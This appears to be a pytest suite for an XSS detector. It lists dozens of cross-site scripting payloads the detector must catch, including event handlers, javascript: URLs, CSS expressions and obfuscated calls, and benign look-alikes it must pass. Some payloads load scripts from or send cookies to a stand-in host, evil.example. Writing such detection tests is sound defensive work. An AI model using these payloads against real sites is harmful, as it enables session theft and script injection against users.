"""What a value would run in a page is found wherever it could land; what only looks like it passes."""

from __future__ import annotations

import re

import pytest

from sallygate.controls.injection.judges.html import xss_judge
from sallygate.controls.injection.judges.html.tag_tokenizer import tags_of
from sallygate.controls.injection.pipeline.evidence import LIKELY

MARKUP = r"""
<script>go(1)</script>
<ScRiPt/x>go(1)
<script src=//evil.example/x.js>
<<script>go(1)//<</script>
<scr<script>ipt>go(1)</scr</script>ipt>
<img src=x onerror=go(1)>
<img/src/onerror=go(1)>
<svg/onload=go(1)
<svg
onload
=go(1)>
<math href="javascript:go(1)">x
<a href="java	script:go(1)">x
<a href=" &#14; javascript:go(1)">x
<a href="javascript&colon;go&lpar;1&rpar;">x
<a href=JaVaScRiPt:go(1)>x
<form><button formaction="javascript:go(1)">x
<iframe srcdoc="&lt;svg onload=go(1)&gt;">
<iframe src=//evil.example>
<object data="data:text/html;base64,PHN2Zz4=">
<embed src=//evil.example/x.swf>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:go(1)">
<link rel=stylesheet href=//evil.example/x.css>
<svg><animate attributeName=href values=javascript:go(1) />
<svg><set attributeName=onmouseover to=go(1)>
<div style="width:expression(go(1))">
<div style="width:expr/**/ession(go(1))">
<p style="behavior:url(x.htc)">
<p style="-moz-binding:url(x.xml#y)">
<style>@import '//evil.example/x.css';</style>
<style>li{list-style:url("javascript:go(1)")}</style>
<noscript><p title="</noscript><img src=x onerror=go(1)>">
<!--><img src=x onerror=go(1)>
<![CDATA[><img src=x onerror=go(1)>]]>
<x onclick=go(1)//
<x:script xmlns:x="http://www.w3.org/1999/xhtml">go(1)</x:script>
<body onload!#$%&()*~+-_.,:;?@[/|\]^`=go("x")>
<custom-element onpointerrawupdate=go(1)>
<?xml-stylesheet href="javascript:go(1)"?>
<a href=x"onclick=go(1)>
<input autofocus onfocus=go(1)>
""".strip().split("\n<")
"""Split where a line opens a tag, since one of them spans lines."""

CONTINUED = r"""
" onmouseover="go(1)
"><h1>x
'/><b>x
autofocus onfocus=go(1)
new Image().src='//evil.example/'+document.title
"onfocus=go(1) autofocus x="
' onclick='go(1)
"/onpointerenter=go(1)//
x onerror=go(1)
" style="x:expression(go(1))
';alert(1)//
"-confirm(1)-"
\';alert(1)//
';go(1);//
"+go(1)+"
'};go(1);{'
</script><svg onload=go(1)>
${alert(document.domain)}
javascript:go(1)+go(2)
jAvAsCrIpT:location=name
vbscript:msgbox(1)
data:text/html,<b>x
feed:data:text/html;base64,PGI+
" style="x:y
' id='x
""".strip().split("\n")

CODE = r"""
(alert)(1)
alert`1`
alert/*x*/(1)
alert?.(1)
alert.call(null,1)
a=alert,a(1)
[1].find(alert)
top["al"+"ert"](1)
self[/al/.source+/ert/.source](1)
window["eval"]("x")
Reflect.get(window,'alert')(1)
eval(atob("YQ=="))
setTimeout('go()',1)
new Function('go()')()
[].filter.constructor('go()')()
[]["filter"]["constructor"]("go()")()
[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]
{{constructor.constructor('go()')()}}
{onerror=alert}throw 1
import('//evil.example/x')
fetch('//evil.example/'+document.cookie)
document.write('<b>')
document.location='//evil.example'
window.location='//evil.example'
String.fromCharCode(88)
[].sort.call`${alert}1`
+ADw-script+AD4-go(1)+ADw-/script+AD4-
new Function`go\`1\``
${x=alert}
""".strip().split("\n")

HONEST = r"""
a < b and c > d
x<y>z
if (a<b && c>d) return;
List<String> names = new ArrayList<>();
map<string,int> m
John Doe <john@example.com>
I <3 you
<- back
5<x<10
the onclick = word in prose
onward = yes
O'Brien; eval (2019)
Please confirm (see attached)
alert(s) fired
prompt=none&confirm=true
type=alert, level (high)
He said "no"; foo (bar) // comment
The constructor(s) of class
see this [link](https://a.example) and top [10] (list)
function(e){return e.data}
at Object.<anonymous> (https://a.example/b.js:1:2)
at eval (eval at <anonymous> (https://a.example/b.js:1:2))
window.dataLayer = window.dataLayer || [];
geolocation=GB;ENG
https://a.example/api.js?onload=ready&render=explicit
document.title
Read the document. Cookies are fine (really).
javascript:void(0)
javascript: void 0;
javascript:;
javascript:history.back()
{"destination":"javascript:void(0);","id":"","tag":"a"}
JavaScript: The Good Parts (2nd ed.)
<p>Hello <b>you</b>,<br/>it works</p>
<p style="color:red;margin:0 auto"><a href="https://a.example/?b=1&c=2" target=_blank>x</a></p>
<img src="cid:1" alt="a > b" width=3>
<img src="data:image/png;base64,iVBORw0KGgo=">
<table border=0 cellpadding="2"><tr><td bgcolor=#fff>x</td></tr></table>
<button type="submit" class="button"><span>Send</span></button>
<a class="x" href="javascript:void(0)" onclick="">x</a>
<iframe src="https://www.youtube.com/embed/abc" width="560"></iframe>
<style type="text/css">p{margin:0}</style><p>x</p>
<svg viewBox="0 0 1 1"><path d="M0 0L1 1"/></svg>
data:image/svg+xml;utf8,<svg xmlns="http://www.w3.org/2000/svg"></svg>
<SCRIPT
regular expression(s), behavior: url based
<p style="scroll-behavior: smooth">x</p>
<style>v\:* {behavior:url(#default#VML);}</style><!--[if gte mso 9]><xml><o:a/></xml><![endif]-->
<style>@import url('https://fonts.googleapis.com/css?family=Lato');</style>
<link href="https://fonts.googleapis.com/css?family=Lato" rel="stylesheet">
<img alt="JavaScript: The Good Parts" src=x.png>
a[href="javascript:void(0)"] > span
une personne prompt(e), confirm(ed)
document.referrer
<import namespace="a" location="http://a.example/b"/>
={total}&TEXT(B1,"0")&" pieces"
"original-policy":"script-src 'self' 'unsafe-eval' data: blob:","script-sample":"(function(w,d,s,l,i){"
{{name}} and ${USER_ID}
M0,0 L10,10 (translate) Z
'a' + b(c) + 'd'
" quoted "
'name' is required
"a" = b
new Function
[value="x"] { color: red }
.icon { background: url(/img/x.png) }
""".strip().split("\n")


def _score(text: str) -> int:
    found = xss_judge.JUDGE.judge(text, [])
    return 0 if found is None else found.score


@pytest.mark.parametrize("text", [part if part[0] == "<" else "<" + part for part in MARKUP])
def test_markup_that_runs_is_found(text: str) -> None:
    assert _score(text) >= LIKELY


@pytest.mark.parametrize("text", CONTINUED + CODE)
def test_continued_contexts_and_bare_script_are_found(text: str) -> None:
    assert _score(text) >= LIKELY


@pytest.mark.parametrize("text", HONEST)
def test_what_only_looks_like_it_passes(text: str) -> None:
    assert _score(text) < LIKELY


def test_the_suite_holds_the_cases_it_claims() -> None:
    assert (len(MARKUP), len(CONTINUED), len(CODE), len(HONEST)) == (40, 25, 29, 66)


@pytest.mark.parametrize("text", [part if part[0] == "<" else "<" + part for part in MARKUP] + CONTINUED + CODE)
def test_every_finding_is_one_the_prefilter_lets_through(text: str) -> None:
    triggers = [re.compile(trigger, re.IGNORECASE | re.DOTALL) for trigger in xss_judge.JUDGE.triggers]
    assert any(trigger.search(f"\x1e{text}\x1e") for trigger in triggers)


@pytest.mark.parametrize(
    ("text", "rule", "span"),
    [
        ("hello <img src=x onerror=go(1)> you", "event-handler", "<img src=x onerror=go(1)>"),
        ("say alert(1) now", "dialog-call", "alert("),
        ("x <script>go()</script>", "script-element", "<script>"),
    ],
)
def test_spans_hold_what_was_found(text: str, rule: str, span: str) -> None:
    found = xss_judge.JUDGE.judge(text, [])
    assert found is not None
    assert (found.family, found.rule, text[found.start : found.end]) == ("xss", rule, span)


def test_tags_are_read_as_browsers_read_them() -> None:
    (tag,) = tags_of('<IMG """ src=a alt=\'b>c\' x="&lt;"/y>rest', 9)
    assert (tag.name, tag.closed) == ("img", True)
    assert [(attribute.name, attribute.value) for attribute in tag.attributes] == [
        ('"""', ""), ("src", "a"), ("alt", "b>c"), ("x", "<"), ("y", ""),
    ]  # fmt: skip


def test_an_end_of_quotes_left_open_does_not_hide_markup() -> None:
    assert [tag.name for tag in tags_of('<p title="<img src=x onerror=go(1)>', 9)] == ["p", "img"]


HOSTILE = ("<", "<a ", "<a>", "<a b=\"", "<a b='<i c=\"", " onload=", " onx=y", "javascript:", "java\tscript:a ", "/*a", "';a(",
           'self["', "&{a", "+AD", "<a\x00", "<script", "<style>", "[]()", "j a v a ", "url(", "parent[(", "window[a]", "on ", "+ADw-", "\u00bc",
           "<a b=:>", "<svg>", "<!--", "<style>a{", "x<y>(", "<a b=\"<i>\">", "<a href=http://a/b?c&d>", "</", "/*a*/:", "\u0130<a ", "\ud800<a ")  # fmt: skip


@pytest.mark.parametrize("shape", HOSTILE)
def test_hostile_shapes_of_a_whole_window_return(shape: str) -> None:
    for text in ((shape * 8192)[:8192], "<a " + (shape * 8192)[:8189], '<a b="' + (shape * 8192)[:8186]):
        found = xss_judge.JUDGE.judge(text, [])
        assert found is None or 0 <= found.start <= found.end <= len(text)


@pytest.mark.parametrize(
    "padding", ["<svg>", "<a b=:>", '<a href="http://a.example/">', "<p class=x>", "<!-- -->", "</p>"]
)
@pytest.mark.parametrize("attack", ["<img src=x onerror=go(1)>", "<script>go(1)</script>", "<a href=javascript:go(1)>"])
def test_no_flood_of_tags_hides_one(padding: str, attack: str) -> None:
    flood = (padding * 4096)[: 4000 // len(padding) * len(padding)]
    for text in (attack + flood + flood, flood + attack + flood, flood + flood + attack):
        assert _score(text) >= LIKELY


def test_a_tag_of_very_many_attributes_is_reported_and_read_no_further() -> None:
    (tag, *_) = tags_of("<a " + "b=c " * 2000, 9)
    assert tag.flooded
    assert len(tag.attributes) == 400
